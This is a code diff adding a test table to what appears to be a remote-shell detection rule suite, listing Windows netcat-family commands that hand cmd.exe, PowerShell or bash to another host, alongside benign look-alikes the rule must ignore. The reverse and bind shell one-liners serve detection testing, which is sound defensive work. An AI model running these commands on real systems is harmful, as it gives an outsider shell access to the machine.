@@ -40,3 +40,21 @@ OPEN_AUTOSTARTS = (
 
 def test_open_autostarts():
     table_holds(OPEN_AUTOSTARTS)
+
+
+# A shell handed to another machine when the shell is named by its Windows path (`-e C:\Windows\System32\cmd.exe`,
+# `powershell.exe`, Git's bash.exe), for every netcat (rules/remote_shell.py).  Quiet: a path to a program that
+# is not a shell, the shell only named as a file to send.
+SHELLS_BY_PATH = (
+    [r'nc.exe 10.0.0.5 4444 -e C:\Windows\System32\cmd.exe',
+     r'ncat 10.0.0.5 443 -e C:\WINDOWS\system32\WindowsPowerShell\v1.0\powershell.exe',
+     r'netcat -lvp 9001 -e "C:\Program Files\Git\bin\bash.exe"', r'C:\Temp\nc64.exe 10.0.0.5 80 -e C:\Windows\cmd.exe',
+     r'pwncat 10.0.0.5 4444 -e C:\Windows\System32\cmd.exe', r'sbd -e C:\Windows\System32\cmd.exe 10.0.0.5 443',
+     r'cryptcat 10.0.0.5 443 -e "C:\Program Files\PowerShell\7\pwsh.exe"',
+     r'rcat 10.0.0.5 4444 -e C:\Windows\SysWOW64\cmd.exe'],
+    [r'nc.exe 10.0.0.5 4444 -e C:\Tools\report.exe', r'nc.exe 10.0.0.5 4444 < C:\Windows\System32\cmd.exe',
+     r'ncat -l 8080 -e C:\Tools\echo-server.exe', 'nc -zv 10.0.0.5 445'])
+
+
+def test_shells_by_path():
+    table_holds(SHELLS_BY_PATH)
